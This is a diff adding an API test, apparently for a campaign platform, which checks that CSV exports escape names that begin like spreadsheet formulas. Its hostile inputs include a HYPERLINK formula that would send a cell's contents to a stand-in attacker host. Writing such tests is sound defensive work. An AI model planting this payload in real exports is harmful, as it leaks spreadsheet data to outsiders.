@@ -191,6 +191,29 @@ describeEachDatabase('operator API: results', (get) => {
   });
 });
 
+describeEachDatabase('operator API: CSV exports a spreadsheet cannot turn against its reader', (get) => {
+  it('writes a name that starts like a formula as text in results.csv and links.csv', async () => {
+    const h = get();
+    const tenant = await newTenant(h);
+    const id = await importCampaign(h, tenant);
+    const hostile = ['=HYPERLINK("http://attacker.example/?x="&A1,"Click")', '+cmd', '-2+3', '@SUM(A1)'];
+    const quoted = hostile.map((name, i) => `p${i}@example.com,"${name.replace(/"/g, '""')}"`);
+    await importCsv(h, tenant, id, ['email,first_name', ...quoted].join('\n') + '\n');
+    for (const path of ['results.csv', 'links.csv']) {
+      const res = await h.admin.inject({
+        method: 'GET',
+        url: `/api/admin/campaigns/${id}/${path}`,
+        headers: tenant.headers,
+      });
+      expect(res.statusCode).toBe(200);
+      const names = parse<Record<string, string>>(res.body, { columns: true }).map((r) => r.first_name);
+      expect(names.sort()).toEqual(hostile.map((name) => `'${name}`).sort());
+      for (const record of parse(res.body, { columns: false }) satisfies string[][])
+        for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+});
+
 describeEachDatabase('operator API: results count data entered, and keep every attempt', (get) => {
   it('counts an empty submit under submit_attempted only, and each questionnaire retake', async () => {
     const h = get();
